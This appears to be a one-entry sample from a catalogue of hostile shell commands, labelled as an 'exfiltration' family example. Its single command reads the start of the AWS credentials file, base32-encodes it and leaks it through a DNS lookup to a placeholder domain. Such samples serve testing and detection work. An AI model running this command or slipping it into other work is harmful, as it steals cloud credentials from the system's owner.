# description: Leaks the start of the AWS credentials file in a DNS name via nslookup.
# family: exfiltration
nslookup "$(head -c 36 ~/.aws/credentials | base32 -w0 | tr -d '=' | cut -c1-60).d.example.com"
